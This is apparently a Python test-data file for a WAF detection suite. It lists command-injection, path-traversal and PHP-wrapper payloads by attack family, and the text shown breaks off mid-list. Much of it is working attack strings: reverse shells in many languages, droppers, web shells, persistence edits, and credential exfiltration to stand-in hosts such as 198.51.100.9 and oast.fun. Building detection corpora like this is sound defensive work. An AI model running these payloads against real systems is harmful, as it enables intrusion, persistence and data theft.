"""Blind set "hundredeightyninth": OS command injection, local file inclusion / path traversal and remote file
inclusion the way incident responders record them in their case files, with benign requests that carry the same
words innocently.

The angle: incident responders' case files, recalled from memory. Each payload is one that turns up in a real
intrusion and is written down by the people who clean up afterwards: the first probes and the final exploit of a
breach, mass-exploitation waves against a popular product (home routers and NAS boxes, VPN appliances, CGI
scripts, WordPress and Joomla plugins, Grafana, Citrix, Pulse Secure, FortiOS, BIG-IP, Apache 2.4.49/50), lines
copied out of access logs and WAF alerts (URL-encoded once or twice, mixed case, with the junk parameters and
cache-busters attackers add), second-stage droppers, persistence and exfiltration one-liners, and the variants
attackers switched to after the first attempt was blocked. Each group of payloads carries a short comment naming
its family, its incident context and its target (POSIX shell / bash / busybox, cmd.exe, PowerShell, the PHP
interpreter's include(), the file system behind a download or template parameter, or the named product).

Families (one sub-family per detection title):
  rce: unix-command-injection, unix-shell-evasion, windows-cmd-injection, powershell, unix-command-with-path,
    reverse-shell, shellshock, shell-downloader, shell-file-write, restricted-file-in-command
  lfi: path-traversal, os-file-access, absolute-path, null-byte-truncation, php-wrapper-lfi, log-poisoning-target,
    restricted-file-extension
  rfi: url-with-ip-address, url-with-trailing-question-mark, include-parameter-with-url, off-domain-reference,
    rfi-protocol

Placements: every payload is sent twice. Once to our real routes (query of /api/users, the admin search form with
its csrf_token, JSON of /api/users, a cookie, User-Agent, Referer, X-Api-Version, a parameter name, an XML body,
a multipart field, the URL path), once the way a WAF regression suite sends it (placements prefixed "rs-"): to
paths that are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) under
arbitrary parameter names, as a query string, form body, JSON body, XML body, a raw form-typed body, or in
User-Agent, Referer, a custom header or a cookie. Parameter names follow the family (host, ip, cmd for command
injection; file, page, template, lang for inclusion). Shellshock goes in headers and cookies, its regression copy
to CGI paths. Query strings copied whole out of an access log (`name=value&...` with their junk parameters, still
percent-encoded as logged) go unquoted as the query or form body; Rails' Accept-header traversal goes in Accept.
Payloads with control characters (newline, NUL) never go into headers, cookies or the path.

Authorship and independence: written for this repository from general knowledge of each attack family, incident
write-ups and response notes as remembered, and the detection titles alone; no WAF rule, engine source, ruleset
regression test or public payload list was read. Measured once on unchanged code; deterministic (no clock, no
randomness).
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

from .blind_placements import BlindSet, Cycles
from .records import print_records

NAME = "hundredeightyninth"

# An entry is a payload string, or (payload, real placement, rs placement) when it only works in one kind of place
# (a whole query string copied from a log, a header-borne exploit).
Entry = str | tuple[str, str, str]
LOG = ("query", "rs-query")   # a query string copied whole out of an access log
BODY = ("form", "rs-raw-body")   # a form body copied whole out of a WAF alert

# ================================================================================================================
# rce: OS command injection
# ================================================================================================================

# unix-command-injection: the first probes through the ping/traceroute diagnostics page of routers, NAS boxes and
# appliances (the value lands in `ping -c 1 <host>` run by /bin/sh or busybox ash), then the blind timing and
# out-of-band probes, then the versions copied out of the access log with the scanners' junk parameters.
# Target: POSIX /bin/sh (dash, bash, busybox ash).
UNIX_INJECTION: list[Entry] = [
    # case file: NAS ping page, the very first probes of the wave, one per separator
    "127.0.0.1;id",
    "127.0.0.1 | id",
    "127.0.0.1||id",
    "127.0.0.1&&id",
    "127.0.0.1`id`",
    "127.0.0.1$(id)",
    "127.0.0.1\nid",
    # blind probes: nothing echoed back, so time and DNS
    ";sleep 7;#",
    "$(sleep 5)",
    "x|nslookup k3j9q2.oast.fun",
    "1&&curl -s http://k3j9q2.oast.fun/$(whoami)",
    # the app quotes the value: break out of '...' and "..." first
    "';id;'",
    # Webmin password_change.cgi (CVE-2019-15107), the `old` field runs through a pipe
    "|uname -a",
    # Cacti remote_agent.php (CVE-2022-46169), poller_id with X-Forwarded-For 127.0.0.1
    "1;touch /tmp/.cacti_ok",
    # copied out of the access log as the scanner sent it: encoded once, with its cache-buster
    ("host=127.0.0.1%3Bid&submit=Ping&_=1718113045123", *LOG),
    ("ip=8.8.8.8%7Cid&count=1&cb=a81f3", *LOG),
    ("target=127.0.0.1%0Acat%20/etc/passwd&Submit=Submit", *BODY),
    # the WAF alert for the same wave, encoded twice (the app urldecodes again)
    "127.0.0.1%253Bid",
]

# unix-shell-evasion: what the same attackers switched to after the first ';id' and ';cat /etc/passwd' were
# blocked: quoting, ${IFS}, globbing, brace expansion, variables and decoders. Target: bash (some: any POSIX sh).
UNIX_EVASION: list[Entry] = [
    ";cat${IFS}/etc/passwd",
    ";{cat,/etc/passwd}",
    ";c'a't /e't'c/pa's's'w'd",
    ";w\\ho\\am\\i",
    ";/???/??t /???/p??s??",
    ";a=i;b=d;$a$b",
    ";X=$'\\x69\\x64';$X",
    ";${PATH:0:1}bin${PATH:0:1}id",
    ";echo aWQ=|base64 -d|sh",
    ";$(echo Y2F0IC9ldGMvcGFzc3dk|base64 -d)",
    ";rev<<<'di'|sh",
    ";{wget,http://198.51.100.7/x.sh,-O,/tmp/.x};{sh,/tmp/.x}",
    "&&curl${IFS}-fsSL${IFS}198.51.100.7/k|sh",
    ";un\\\na\\\nme -a",
    ";IFS=,;`cat<<<uname,-a`",
    ";/???/n? -e /???/b??h 198.51.100.9 4444",
    "%3Bcat%24%7BIFS%7D%2Fetc%2Fpasswd",
]

# windows-cmd-injection: the same wave against a Windows appliance and an IIS-hosted admin tool (the value lands in
# `cmd /c ping <host>`), then the recon, the payload download with LOLBins, the new admin account and the
# ransomware prep the responders found in the prefetch. Target: cmd.exe.
WINDOWS_CMD: list[Entry] = [
    "127.0.0.1 & whoami",
    "127.0.0.1 | type C:\\Windows\\win.ini",
    "127.0.0.1 && ipconfig /all",
    "x || net user",
    "&ping -n 3 w1n.k3j9q2.oast.fun",
    "& certutil -urlcache -split -f http://198.51.100.7/a.exe C:\\Windows\\Temp\\a.exe & C:\\Windows\\Temp\\a.exe",
    "& bitsadmin /transfer j /download /priority high http://198.51.100.7/b.exe %TEMP%\\b.exe",
    "| mshta http://198.51.100.7/p.hta",
    "& regsvr32 /s /n /u /i:http://198.51.100.7/s.sct scrobj.dll",
    "& net user svc_backup P@ssw0rd!2024 /add & net localgroup administrators svc_backup /add",
    "& schtasks /create /sc minute /mo 5 /tn \"MicrosoftEdgeUpdateCore\" /tr \"C:\\ProgramData\\u.exe\" /ru SYSTEM",
    "& reg add HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d C:\\ProgramData\\u.exe /f",
    "& wmic process call create \"cmd /c whoami > C:\\inetpub\\wwwroot\\w.txt\"",
    "& vssadmin delete shadows /all /quiet",
    # after the block: caret and quote splitting, env-var substrings
    "&c^m^d /c wh^oami",
    "& %COMSPEC:~-7,1%hoami",
    "%26whoami",
]

# powershell: second stages on the Windows hosts, recovered from the PowerShell operational log and the proxy: the
# download cradles, the encoded command, Defender switched off, persistence and the exfil of the app's config.
# Target: Windows PowerShell 5.1 / pwsh, launched from the injected cmd.exe.
POWERSHELL: list[Entry] = [
    "& powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://198.51.100.7/a.ps1')\"",
    "| powershell -NoP -NonI -W Hidden -Exec Bypass -EncodedCommand SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACAATgBlAHQA"
    "LgBXAGUAYgBDAGwAaQBlAG4AdAApAC4ARABvAHcAbgBsAG8AYQBkAFMAdAByAGkAbgBnACgAJwBoAHQAdABwADoALwAvADEAOQA4AC4ANQAx"
    "AC4AMQAwADAALgA3AC8AYQAuAHAAcwAxACcAKQA=",
    "& powershell -enc aQB3AHIAIABoAHQAdABwADoALwAvADEAOQA4AC4ANQAxAC4AMQAwADAALgA3AC8AcwAuAHAAcwAxACAALQBVAHMAZQBC"
    "AGEAcwBpAGMAUABhAHIAcwBpAG4AZwB8AGkAZQB4AA==",
    "& powershell.exe -ExecutionPolicy Bypass -c \"iwr -useb http://198.51.100.7/r.ps1|iex\"",
    "& powershell -c \"Invoke-WebRequest -Uri http://198.51.100.7/m.exe -OutFile $env:TEMP\\m.exe; "
    "Start-Process $env:TEMP\\m.exe\"",
    "& powershell -w 1 -c \"(New-Object System.Net.WebClient).DownloadFile('http://198.51.100.7/x.exe',"
    "'C:\\Users\\Public\\x.exe')\"",
    "& powershell -c \"Set-MpPreference -DisableRealtimeMonitoring $true\"",
    "& powershell -c \"New-ItemProperty -Path HKCU:\\Software\\Microsoft\\Windows\\CurrentVersion\\Run "
    "-Name OneDriveUpd -Value 'C:\\ProgramData\\u.exe'\"",
    "& powershell -c \"Get-Content C:\\inetpub\\wwwroot\\web.config\"",
    "& powershell -c \"Compress-Archive C:\\inetpub\\wwwroot\\App_Data C:\\Windows\\Temp\\d.zip\"",
    "& powershell -c \"Invoke-RestMethod -Uri https://webhook.site/6f1c2d9e -Method Post "
    "-Body (Get-ChildItem Env: | Out-String)\"",
    "& powershell -c \"$c=New-Object Net.Sockets.TCPClient('198.51.100.9',443);$s=$c.GetStream();"
    "[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding)"
    ".GetString($b,0,$i);$r=(iex $d 2>&1|Out-String);$e=([Text.Encoding]::ASCII).GetBytes($r+'PS> ');"
    "$s.Write($e,0,$e.Length)}\"",
    "& p^ow^ershell -c iex(irm 198.51.100.7/s)",
    "& powershell -c \"iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String("
    "'SUVYKGl3ciAxOTguNTEuMTAwLjcvcyk=')))\"",
    "& PowerShell -c \"& ('i'+'ex') ((New-Object Net.WebClient).DownloadString('http://198.51.100.7/b'))\"",
    "& powershell -c \"Get-ChildItem -Recurse C:\\Users -Include *.kdbx,id_rsa | Copy-Item -Destination "
    "C:\\Windows\\Temp\\c\"",
]

# unix-command-with-path: the commands the responders found in bash history and in the appliance's process
# accounting, written with their full paths (the attackers' scripts do this to dodge PATH tricks and aliases).
# Target: POSIX /bin/sh on Linux hosts and busybox firmware.
UNIX_PATHS: list[Entry] = [
    ";/bin/cat /etc/passwd",
    "|/usr/bin/id",
    ";/usr/bin/whoami",
    "&&/bin/uname -a",
    ";/sbin/ifconfig -a",
    ";/bin/ls -la /var/www/html",
    ";/usr/bin/crontab -l",
    ";/usr/bin/find / -perm -4000 -type f 2>/dev/null",
    ";/bin/busybox telnetd -l /bin/sh -p 9999",
    ";/usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm",
    ";/usr/bin/pkill -9 -f xmrig",
    ";/usr/bin/nohup /tmp/.x/kworker >/dev/null 2>&1 &",
    ";/usr/bin/base64 -w0 /root/.ssh/id_rsa",
    ";/usr/bin/iptables -F",
    "`/usr/bin/id`",
    "$(/bin/hostname)",
]

# reverse-shell: the final exploit of three breaches (a Zyxel firewall's mtu field, CVE-2022-30525, a NAS, a
# Jenkins agent), each a callback to the attacker's listener on 198.51.100.9. Targets: bash (/dev/tcp), netcat
# (traditional, OpenBSD, ncat, busybox), python, perl, php-cli, ruby, socat, awk on the compromised host.
REVERSE_SHELL: list[Entry] = [
    ";bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
    "; bash -c 'exec bash -i &>/dev/tcp/198.51.100.9/443 <&1';",
    ";0<&196;exec 196<>/dev/tcp/198.51.100.9/4444; sh <&196 >&196 2>&196",
    ";nc -e /bin/sh 198.51.100.9 4444",
    ";rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 198.51.100.9 4444 >/tmp/f",
    ";ncat 198.51.100.9 4444 -e /bin/bash",
    ";busybox nc 198.51.100.9 4444 -e sh",
    ";python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"198.51.100.9\",4444));"
    "[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call([\"/bin/sh\",\"-i\"])'",
    ";python3 -c 'import os,pty,socket;s=socket.socket();s.connect((\"198.51.100.9\",443));"
    "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/bash\")'",
    ";perl -e 'use Socket;$i=\"198.51.100.9\";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"
    "if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,\">&S\");open(STDOUT,\">&S\");"
    "open(STDERR,\">&S\");exec(\"/bin/sh -i\");};'",
    ";perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,\"198.51.100.9:4444\");"
    "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    ";socat tcp-connect:198.51.100.9:4444 exec:'bash -li',pty,stderr,setsid,sigint,sane",
    ";php -r '$sock=fsockopen(\"198.51.100.9\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'",
    ";ruby -rsocket -e'f=TCPSocket.open(\"198.51.100.9\",4444).to_i;"
    "exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
    ";awk 'BEGIN{s=\"/inet/tcp/0/198.51.100.9/4444\";while(1){printf \"$ \"|&s;s|&getline c;"
    "if(c){while((c|&getline)>0)print|&s;close(c)}}}'",
    ";echo YmFzaCAtaSA+JiAvZGV2L3RjcC8xOTguNTEuMTAwLjkvNDQ0NCAwPiYx|base64 -d|bash",
    "%3Bbash%20-c%20%27bash%20-i%20%3E%26%20%2Fdev%2Ftcp%2F198.51.100.9%2F4444%200%3E%261%27",
]

# shellshock: the CGI wave the responders still see in every web log (CVE-2014-6271 and -6278): the function
# definition in User-Agent, Referer, Cookie or a custom header, imported by bash when Apache's mod_cgi runs
# /cgi-bin/*.sh or *.cgi. Target: bash <= 4.3 behind a CGI script (old appliances, QNAP, cPanel boxes).
SHELLSHOCK: list[Entry] = [
    "() { :; }; echo; /bin/id",
    "() { :;}; /bin/bash -c 'cat /etc/passwd'",
    "() { :; }; /bin/bash -i >& /dev/tcp/198.51.100.9/4444 0>&1",
    "() { :;}; /usr/bin/wget http://198.51.100.7/ss.sh -O /tmp/ss.sh; /bin/sh /tmp/ss.sh",
    "() { ignored; }; echo Content-Type: text/plain; echo; echo; /bin/uname -a",
    "() { _; } >_[$($())] { echo; /usr/bin/id; }",
    "() { :; }; /bin/ping -c 1 ss.k3j9q2.oast.fun",
    "() { :; }; echo ; echo ; /bin/cat /etc/shadow",
    "() { :; }; /usr/bin/curl -fsSL http://198.51.100.7/b | /bin/bash",
    "() { :;};/bin/sleep 20",
    "() { :; }; /bin/busybox wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
    "() { :; }; echo \"* * * * * root /tmp/.x\" >> /etc/crontab",
    "(){ :; }; /bin/bash -c \"nc -e /bin/sh 198.51.100.9 4444\"",
    "() { :; }; /bin/bash -c 'echo; echo; /usr/bin/env'",
    "() { :; }; echo \"vuln-$(id -u)\"",
]

# shell-downloader: the second-stage droppers of the botnet and miner waves (Mirai and Mozi against GPON and
# Realtek routers, Kinsing and xmrig against exposed web apps), copied from the WAF alerts and the firewall logs.
# Target: busybox ash on MIPS/ARM firmware, bash/sh on Linux servers, FreeBSD sh on pfSense.
DOWNLOADER: list[Entry] = [
    ";curl -fsSL http://198.51.100.7/ldr.sh | sh",
    ";wget -q -O- http://198.51.100.7/ldr.sh | bash",
    "`busybox wget http://198.51.100.7/g -O /tmp/g;sh /tmp/g`",
    "$(wget http://198.51.100.7/x86 -O /tmp/x86;chmod 777 /tmp/x86;/tmp/x86 gpon)",
    ";cd /tmp || cd /var/run || cd /mnt; tftp -g -r m.mips 198.51.100.7; chmod +x m.mips; ./m.mips",
    ";cd /tmp; wget http://198.51.100.7/Mozi.m -O /tmp/netgear; sh /tmp/netgear",
    ";(curl -s http://198.51.100.7/xm.sh||wget -q -O- http://198.51.100.7/xm.sh)|bash",
    ";curl -o /tmp/kdevtmpfsi http://198.51.100.7/kdevtmpfsi && chmod +x /tmp/kdevtmpfsi && /tmp/kdevtmpfsi &",
    ";python3 -c \"import urllib.request as u;exec(u.urlopen('http://198.51.100.7/s').read())\"",
    ";fetch -o - http://198.51.100.7/f.sh | sh",
    ";wget -qO- https://pastebin.com/raw/4hJZ8qX1|sh",
    ";echo Y3VybCAtZnNTTCBodHRwOi8vMTk4LjUxLjEwMC43L2Muc2h8c2g=|base64 -d|sh",
    ";busybox ftpget 198.51.100.7 /tmp/a.arm7 a.arm7; chmod 777 /tmp/a.arm7; /tmp/a.arm7 zyxel",
    "%3Bwget%20http%3A%2F%2F198.51.100.7%2Fb.sh%20-O-%7Csh",
    ("XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=%60busybox+wget+http%3A%2F%2F198.51.100.7%2Fg"
     "+-O+%2Ftmp%2Fg%60%3Bsh+%2Ftmp%2Fg&ipv=0", *BODY),
    ("cmd=wget+http%3A%2F%2F198.51.100.7%2Fsh+-O+-%7Csh&todo=syscmd&next_file=netgear.cfg&curpath=/", *LOG),
    "/api/v1/totp/user-backup-code/../../license/keys-status/;curl${IFS}http://198.51.100.7/i.sh|sh",
]

# shell-file-write: the web shells and persistence the responders removed, each written by the injected shell with
# echo, printf, tee or a heredoc (PHP web shells under the docroot, ASPX in aspnet_client, SSH keys, cron, sudoers,
# ld.so.preload). Target: /bin/sh on Linux, cmd.exe on the IIS host.
FILE_WRITE: list[Entry] = [
    ";echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/.cache.php",
    ";echo PD9waHAgQGV2YWwoJF9QT1NUWyd4J10pOz8+|base64 -d > /var/www/html/wp-content/uploads/x.php",
    ";echo '<?=`$_GET[1]`?>' >> /var/www/html/index.php",
    ";printf '<?php echo shell_exec($_GET[\"e\"]); ?>' | tee /var/www/html/images/logo.php",
    ";echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHk2b3Jx0W8qz3Fv1oYwLr7bGm0yQ2nT4sKp8eXcVd9a root@kali' "
    ">> /root/.ssh/authorized_keys",
    ";echo '*/5 * * * * curl -fsSL http://198.51.100.7/c.sh|sh' | crontab -",
    ";(crontab -l 2>/dev/null; echo '@reboot /tmp/.x/kworker') | crontab -",
    ";echo 'sysadm:x:0:0::/root:/bin/bash' >> /etc/passwd",
    ";echo 'ALL ALL=(ALL) NOPASSWD: ALL' | tee -a /etc/sudoers",
    ";echo 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1' >> ~/.bashrc",
    ";echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload",
    ";sed -i 's/^#\\?PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
    ";cat > /etc/systemd/system/dbus-update.service <<EOF\n[Service]\nExecStart=/dev/shm/.u\nRestart=always\n"
    "[Install]\nWantedBy=multi-user.target\nEOF\nsystemctl enable --now dbus-update",
    "& echo ^<%@ Page Language=\"C#\" %^>^<%System.Diagnostics.Process.Start(\"cmd.exe\",\"/c \"+Request[\"c\"]);%^>"
    " > C:\\inetpub\\wwwroot\\aspnet_client\\errorEE.aspx",
    "& echo ^<%eval request(\"x\")%^> > C:\\inetpub\\wwwroot\\x.asp",
    "%3Becho%20%27%3C%3Fphp%20system%28%24_GET%5Bc%5D%29%3B%3F%3E%27%20%3E%20%2Fvar%2Fwww%2Fhtml%2Fc.php",
]

# restricted-file-in-command: the reads and exfil of credentials and configuration the responders traced in the
# proxy logs (shadow, SSH keys, cloud and Kubernetes credentials, the app's .env and wp-config.php), sometimes with
# a renamed reader after `cat` was blocked. Target: /bin/sh on the web host and in its container; cmd.exe.
RESTRICTED_FILES: list[Entry] = [
    ";cat /etc/shadow",
    "|head -n 5 /etc/passwd",
    ";nl /etc/passwd",
    ";cat /root/.ssh/id_rsa",
    ";cat /home/*/.ssh/id_*",
    ";cat ~/.aws/credentials",
    ";cat /proc/self/environ",
    ";cat /var/www/html/wp-config.php",
    ";grep -r DB_PASSWORD /var/www",
    ";cat /var/run/secrets/kubernetes.io/serviceaccount/token",
    ";cp /etc/shadow /var/www/html/s.txt",
    ";curl -F f=@/etc/passwd http://198.51.100.7/up",
    ";cat /var/www/html/.env | base64 | curl -d @- http://k3j9q2.oast.fun/e",
    ";tar czf - /root/.ssh | curl -X POST --data-binary @- http://k3j9q2.oast.fun/s",
    "& type C:\\inetpub\\wwwroot\\web.config",
    "& type %WINDIR%\\win.ini",
    ";od -c /etc/master.passwd",
]

# ================================================================================================================
# lfi: local file inclusion and path traversal
# ================================================================================================================

# path-traversal: ../ and ..\ in every encoding the waves used, from the download/attachment parameter of a
# custom portal (Linux, then its Windows twin), then the product exploits the responders matched in the logs.
# Targets: the file system behind a download parameter (Linux and Windows/IIS), Apache httpd 2.4.49/2.4.50,
# Grafana 8.x, Citrix ADC, Pulse Connect Secure, FortiOS SSL-VPN, F5 BIG-IP TMUI, Apache Flink, Spring Cloud
# Config, Kibana, Tomcat path parameters.
TRAVERSAL: list[Entry] = [
    # the portal's download parameter: first probe, then each encoding after the previous one was blocked
    "../../../../etc/passwd",
    "..\\..\\..\\..\\windows\\win.ini",
    "..%2f..%2f..%2f..%2fetc%2fpasswd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
    "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%af..%c0%af..%c0%afetc%c0%afpasswd",
    "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
    "..%5c..%5c..%5c..%5cboot.ini",
    "%u002e%u002e/%u002e%u002e/%u002e%u002e/windows/win.ini",
    "....//....//....//....//etc/passwd",
    "..././..././..././..././etc/passwd",
    "..\\/..\\/..\\/..\\/etc\\/passwd",
    "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "../../../../../../../../../../../../../../../../etc/passwd",
    "images/../../../../../../etc/passwd",
    # Apache httpd 2.4.49 (CVE-2021-41773) and the 2.4.50 bypass (CVE-2021-42013)
    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd",
    "/icons/.%%32%65/.%%32%65/.%%32%65/.%%32%65/etc/passwd",
    # Grafana 8.0-8.3 plugin assets (CVE-2021-43798)
    "/public/plugins/alertlist/../../../../../../../../etc/passwd",
    # Citrix ADC (CVE-2019-19781), Pulse Connect Secure (CVE-2019-11510), FortiOS (CVE-2018-13379)
    "/vpn/../vpns/cfg/smb.conf",
    "/dana-na/../dana/html5acc/guacamole/../../../../../../../etc/passwd?/dana/html5acc/guacamole/",
    "/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession",
    # BIG-IP TMUI (CVE-2020-5902), Tomcat path parameters (..;/)
    "/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd",
    "/..;/..;/..;/WEB-INF/web.xml",
    # Apache Flink (CVE-2020-17519), Spring Cloud Config (CVE-2020-5410), Kibana console (CVE-2018-17246)
    "/jobmanager/logs/..%252f..%252f..%252f..%252f..%252f..%252fetc%252fpasswd",
    "/..%252F..%252F..%252F..%252F..%252F..%252Fetc%252Fpasswd%23foo/development",
    "/api/console/api_server?sense_version=@@SENSE_VERSION&apis=../../../../../../../../../../etc/passwd",
    # Ruby on Rails render file (CVE-2019-5418): the traversal rides in the Accept header
    ("../../../../../../../../../../etc/passwd{{", "header:Accept", "rs-header:Accept"),
    # copied out of the access log with its cache-buster, still encoded as logged
    ("file=..%2F..%2F..%2F..%2Fetc%2Fpasswd&_=1718113045123", *LOG),
    ("download=..%5C..%5C..%5C..%5Cwindows%5Cwin.ini&token=&v=3", *LOG),
]

# os-file-access: what the traversals went after, reached a few levels up from the web root: credentials and
# keys, process information, the app's config, VCS metadata and the Windows markers. Target: the file system
# behind the same download, view or template parameter (Linux web hosts and containers, Windows/IIS).
OS_FILES: list[Entry] = [
    "../../../../etc/shadow",
    "../../../../etc/hosts",
    "../../../../proc/self/environ",
    "../../../../proc/self/cmdline",
    "../../../../proc/self/status",
    "../../../../proc/self/cwd/config.py",
    "../../../../root/.ssh/id_rsa",
    "../../../../home/ubuntu/.ssh/authorized_keys",
    "../../../../root/.bash_history",
    "../../.env",
    "../../../.aws/credentials",
    "../.git/config",
    "../../.git/HEAD",
    "../.svn/entries",
    "../../.htaccess",
    "../web.config",
    "..\\..\\web.config",
    "../../WEB-INF/web.xml",
    "../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
    "../../../../etc/nginx/nginx.conf",
    "..\\..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "..\\..\\..\\..\\Windows\\repair\\SAM",
    "../../../../boot.ini",
    "../../../../inetpub/wwwroot/web.config",
]

# absolute-path: the same files asked for directly when the parameter took a full path (the log viewer, the
# report exporter, the file:// URL field of a PDF renderer). Target: the file system (Linux, Windows/IIS/XAMPP),
# and the FortiOS session file.
ABSOLUTE: list[Entry] = [
    "/etc/passwd",
    "/etc/shadow",
    "//etc/passwd",
    "/./etc/./passwd",
    "file:///etc/passwd",
    "file://localhost/etc/passwd",
    "file:///C:/Windows/win.ini",
    "C:\\Windows\\win.ini",
    "C:/boot.ini",
    "c:\\inetpub\\wwwroot\\web.config",
    "\\windows\\system32\\drivers\\etc\\hosts",
    "C:\\xampp\\apache\\conf\\httpd.conf",
    "C:\\ProgramData\\MySQL\\MySQL Server 8.0\\my.ini",
    "/proc/self/environ",
    "/root/.ssh/id_rsa",
    "/var/www/html/wp-config.php",
    "/usr/local/etc/php/php.ini",
    "/etc/ssh/sshd_config",
    "/etc/kubernetes/pki/ca.key",
    "/dev/cmdb/sslvpn_websession",
    "%2Fetc%2Fpasswd",
    "%252Fetc%252Fshadow",
]

# null-byte-truncation: the old PHP (< 5.3.4), ColdFusion and Perl CGI targets that append an extension to the
# parameter: the NUL cuts it off; long /./ runs truncate at PHP's 4096-byte path limit. Targets: PHP 5.2 include()
# on a legacy intranet app, Adobe ColdFusion 8 (CVE-2010-2861), a Perl CGI open().
NULL_BYTE: list[Entry] = [
    "../../../../etc/passwd%00",
    "../../../../etc/passwd\x00",
    "../../../../etc/passwd\x00.jpg",
    "../../../../etc/passwd%00.php",
    "....//....//....//etc/passwd%00",
    "/etc/passwd%00.jpg",
    "../../../../../etc/passwd%2500.png",
    "..%2F..%2F..%2F..%2Fetc%2Fpasswd%2500",
    "..%2f..%2f..%2fetc%2fpasswd%00.tpl",
    "..%5c..%5c..%5cwindows%5cwin.ini%00",
    "../../../../../boot.ini%00.htm",
    "../../../../proc/self/environ%00",
    "../../../../var/www/html/config.inc%00",
    "../../../../etc/passwd%C0%80",
    "../../../../etc/passwd\x00index.html",
    "../../../../../../../../../../ColdFusion8/lib/password.properties%00en",
    "..\\..\\..\\..\\..\\..\\..\\..\\..\\..\\ColdFusion9\\lib\\password.properties%00en",
    "../../../../etc/passwd" + "/." * 2050,
    "..\\..\\..\\..\\boot.ini" + "." * 4096,
    ("lang=../../../../../etc/passwd%00&PHPSESSID=8g4j2c1o9h0t7r3m5k6a&x=1", *LOG),
]

# php-wrapper-lfi: the PHP stream wrappers of the include() breaches: source disclosure with php://filter (base64,
# rot13, iconv chains), code from the request body with php://input, uploaded archives through zip:// and phar://,
# with the mixed-case and encoded versions tried after the first was blocked. Target: PHP include()/require()/
# file_get_contents() on the sites' page/template/lang parameters.
PHP_WRAPPER: list[Entry] = [
    "php://filter/convert.base64-encode/resource=index.php",
    "php://filter/read=convert.base64-encode/resource=../config.php",
    "php://filter/convert.base64-encode/resource=../../../../etc/passwd",
    "php://filter/string.rot13/resource=wp-config.php",
    "php://filter/convert.iconv.utf-8.utf-16/resource=/etc/passwd",
    "php://filter/zlib.deflate/convert.base64-encode/resource=/var/www/html/index.php",
    "php://filter/read=string.toupper|string.rot13|convert.base64-encode/resource=flag.php",
    "php://filter/convert.base64-encode/resource=/var/www/html/wp-config.php",
    "php://filter/read=convert.base64-encode/resource=/proc/self/cwd/config.php",
    "php://filter/resource=/etc/passwd",
    "pHp://FilTer/convert.base64-encode/resource=config",
    "PHP://filter/convert.base64-encode/resource=admin/config",
    "php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex",
    "php%253A%252F%252Ffilter%252Fconvert.base64-encode%252Fresource%253Dconfig",
    "php://input",
    "PhP://InPuT",
    "zip:///var/www/html/uploads/avatar.zip%23shell.php",
    "zip://uploads/8f3e2a.jpg#s.php",
    "phar:///var/www/html/uploads/avatar.jpg/x.php",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://../../config.php",
    "glob:///var/www/html/*.php",
    ("page=php://filter/convert.base64-encode/resource=index&_=1718113045", *LOG),
]

# log-poisoning-target: the second half of the LFI-to-RCE chain: after PHP code was planted in the User-Agent,
# an SSH or SMTP user name, or the session, the include parameter pointed at the file that holds it. Target: PHP
# include() reading the web, auth, mail and FTP logs, /proc/self/fd and PHP session files (Debian, RHEL, XAMPP,
# Laravel, IIS).
LOG_POISON: list[Entry] = [
    "../../../../var/log/apache2/access.log",
    "../../../../var/log/apache2/error.log",
    "../../../../var/log/httpd/access_log",
    "/var/log/nginx/access.log",
    "../../../../var/log/nginx/error.log",
    "/var/log/apache/access.log",
    "/usr/local/apache/logs/access_log",
    "/opt/lampp/logs/access_log",
    "../../../../var/log/auth.log",
    "/var/log/secure",
    "/var/log/vsftpd.log",
    "/var/log/mail.log",
    "/var/mail/www-data",
    "/proc/self/fd/2",
    "../../../../proc/self/fd/10",
    "../../../../var/lib/php/sessions/sess_8g4j2c1o9h0t7r3m5k6a",
    "/tmp/sess_8g4j2c1o9h0t7r3m5k6a",
    "C:\\xampp\\apache\\logs\\access.log",
    "..\\..\\..\\..\\xampp\\apache\\logs\\error.log",
    "C:\\inetpub\\logs\\LogFiles\\W3SVC1\\u_ex240611.log",
    "../../../storage/logs/laravel.log",
